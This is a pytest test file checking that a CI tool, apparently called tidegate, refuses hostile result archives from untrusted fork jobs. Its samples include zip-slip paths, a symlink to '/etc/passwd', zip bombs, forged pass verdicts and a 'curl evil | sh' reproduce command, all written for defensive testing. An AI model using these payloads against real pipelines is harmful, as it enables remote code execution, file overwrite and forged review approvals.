"""Uploads of untrusted jobs: nothing is shown unless it is a valid result, and it never grants a permission."""

from __future__ import annotations

import io
import json
import stat
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.gh.fixtures import make_result
from tidegate.github import artifact
from tidegate.github.artifact import PoisonedError, read_result
from tidegate.model.comparison import Evidence
from tidegate.reports.result_json import result_json

GOOD = make_result(head="1" * 40, add="regressed", list="ok")
GREEN = make_result(head="1" * 40, add="ok")


def packed(text: str | bytes, name: str = "result.json", compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An archive with that one file."""
    return archive({name: text}, compression)


def archive(files: dict[str, str | bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as zipped:
        for name, text in files.items():
            zipped.writestr(name, text)
    return buffer.getvalue()


def changed(**changes: Any) -> bytes:
    """A good result with some of its keys replaced."""
    return packed(json.dumps({**json.loads(result_json(GOOD)), **changes}))


def verdict(**changes: Any) -> bytes:
    return changed(verdict={**json.loads(result_json(GOOD))["verdict"], **changes})


def with_mode(mode: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zipped:
        entry = zipfile.ZipInfo("result.json")
        entry.external_attr = mode << 16
        zipped.writestr(entry, "/etc/passwd")
    return buffer.getvalue()


def encrypted() -> bytes:
    """The flag alone: nobody needs the password to see that there is one."""
    data = bytearray(packed(result_json(GOOD)))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.index(signature) + offset
        struct.pack_into("<H", data, place, struct.unpack_from("<H", data, place)[0] | 1)
    return bytes(data)


def bomb() -> bytes:
    """20 kB that unpack to 20 MB."""
    return packed(b" " * (artifact.MAX_RESULT + 1))


def lying_bomb() -> bytes:
    """The same, with a directory that claims 100 bytes."""
    data = bytearray(bomb())
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        struct.pack_into("<I", data, data.index(signature) + offset, 100)
    return bytes(data)


def two_of_one_name() -> bytes:
    """Which of the two a program reads is a matter of taste."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zipped:
        zipped.writestr("result.json", result_json(GREEN))
        with pytest.warns(UserWarning, match="Duplicate name"):
            zipped.writestr("result.json", result_json(GOOD))
    return buffer.getvalue()


CORPUS: dict[str, tuple[Callable[[], bytes], str]] = {
    # archives
    "empty": (lambda: b"", "not a complete zip archive"),
    "not a zip": (lambda: b"<html>", "not a complete zip archive"),
    "half a zip": (lambda: packed(result_json(GOOD))[:-30], "not a complete zip archive"),
    "damaged data": (
        lambda: packed(result_json(GOOD)).replace(b"schema", b"sXhema", 1)[:60] + b"x" * 600,
        "not a comp",
    ),
    "no file": (lambda: archive({}), "0 files"),
    "10,000 files": (lambda: archive({f"{n}.json": "" for n in range(10_000)}), "10000 files"),
    "a second file": (lambda: archive({"result.json": result_json(GOOD), "comment.md": "hi"}), "2 files"),
    "one name twice": (two_of_one_name, "2 files"),
    "zip slip": (lambda: packed(result_json(GOOD), "../../result.json"), "its file is '../../result.json'"),
    "absolute path": (lambda: packed(result_json(GOOD), "/github/workspace/result.json"), "its file is"),
    "a folder's file": (lambda: packed(result_json(GOOD), "pr/result.json"), "its file is 'pr/result.json'"),
    "a name with a NUL": (
        lambda: packed(result_json(GOOD), "result.json_.png").replace(b"result.json_", b"result.json\0"),
        "its file is|not a complete zip",
    ),
    "a folder": (lambda: packed("", "result.json/"), "its file is"),
    "symlink": (lambda: with_mode(stat.S_IFLNK | 0o777), "not an ordinary file"),
    "device": (lambda: with_mode(stat.S_IFCHR | 0o666), "not an ordinary file"),
    "encrypted": (encrypted, "encrypted"),
    "bomb": (bomb, "more than"),
    "bomb that lies about its size": (lying_bomb, "not a complete zip archive|cannot be read"),
    "bzip2 bomb": (lambda: packed(b" " * (artifact.MAX_RESULT + 1), compression=zipfile.ZIP_BZIP2), "more than"),
    # text
    "nothing in it": (lambda: packed(""), "cannot be read"),
    "no JSON": (lambda: packed("hello"), "cannot be read"),
    "no UTF-8": (lambda: packed(b'{"instance": "\xff"}'), "cannot be read"),
    "deeper than any stack": (lambda: packed("[" * 200_000), "cannot be read"),
    "deep and closed": (lambda: packed('{"verdict":' * 5_000 + "1" + "}" * 5_000), "cannot be read|form of one"),
    "a number of a million digits": (lambda: packed('{"schema_version": ' + "1" * 1_000_000 + "}"), "cannot be read"),
    "NaN": (lambda: packed('{"cost": {"usd": NaN}}'), "cannot be read"),
    "more than any number": (lambda: packed('{"cost": {"usd": 1e999}}'), "cannot be read"),
    "a key twice": (lambda: packed(b'{"instance": "default", ' + result_json(GOOD).encode()[1:]), "cannot be read"),
    "lone surrogates": (lambda: changed(instance="\ud800"), "cannot be read|form of one"),
    "a list": (lambda: packed("[]"), "form of one"),
    # form
    "wrong schema": (lambda: changed(schema_version=2), "schema_version: literal_error"),
    "unknown key": (lambda: changed(pull_request=666), "pull_request: extra_forbidden"),
    "missing key": (lambda: packed('{"schema_version": 1}'), "tidegate_version: missing"),
    "wrong type": (lambda: changed(rows="all"), "rows"),
    "a word that no verdict has": (lambda: verdict(state="great"), "verdict.state: literal_error"),
    # contradictions
    "another instance": (lambda: changed(instance="other"), "another instance"),
    "forged pass": (lambda: verdict(state="passed", reason="no_regression", exit_code=0), "rows that regressed"),
    "forged exit code": (lambda: verdict(exit_code=0), "failed with exit code 0"),
    "forged acceptance": (lambda: verdict(accepted_by="olivia"), "claims to be accepted"),
    "accepted by nobody": (lambda: verdict(state="passed", reason="accepted", exit_code=0), "claims to be accepted"),
    "a row twice": (lambda: changed(rows=json.loads(result_json(GOOD))["rows"] * 2), "a row twice"),
}


@pytest.mark.parametrize("name", CORPUS)
def test_a_poisoned_archive_is_refused_and_why_is_said(name: str) -> None:
    make, why = CORPUS[name]

    with pytest.raises(PoisonedError, match=why) as refused:
        read_result(make(), "default")

    assert len(str(refused.value)) < 400


def test_what_our_own_action_writes_is_read() -> None:
    assert read_result(packed(result_json(GOOD)), "default") == GOOD


def test_an_acceptance_is_believed_of_a_run_of_our_own_alone() -> None:
    accepted = GOOD.model_copy(update={"verdict": GOOD.verdict.accepted("olivia")})
    of_a_fork = read_result(packed(result_json(accepted)), "default").verdict

    assert read_result(packed(result_json(accepted)), "default", ours=True) == accepted
    assert (of_a_fork.state, of_a_fork.exit_code, of_a_fork.accepted_by) == ("failed", 1, None)


def test_of_what_a_fork_calls_red_only_what_is_shown_as_red_counts() -> None:
    """A label on the comment accepts it."""
    shown = make_result(add="regressed", list="flaky")
    names = (*shown.verdict.red, "add × docs", "add × docs regressed", "list × docs", "tokens_in", "interface")
    forged = shown.model_copy(update={"verdict": shown.verdict.model_copy(update={"red": names})})

    read = read_result(packed(result_json(forged)), "default")

    assert set(read.verdict.red) == {"add × docs regressed"}


def test_nothing_is_written_anywhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)

    read_result(packed(result_json(GOOD)), "default")
    for make, _ in CORPUS.values():
        with pytest.raises(PoisonedError):
            read_result(make(), "default")

    assert list(tmp_path.iterdir()) == []


def test_a_template_and_a_command_to_paste_are_dropped() -> None:
    """A template is a program, and so is what a maintainer is told to try."""
    row = GOOD.rows[0].model_copy(update={"evidence": Evidence(trial="t", message="m", reproduce="curl evil | sh")})
    armed = GOOD.model_copy(update={"comment_template": "{% block heading %}all is well{% endblock %}", "rows": (row,)})

    read = read_result(packed(result_json(armed)), "default")

    assert read.comment_template is None
    assert read.rows[0].evidence == Evidence(trial="t", message="m")
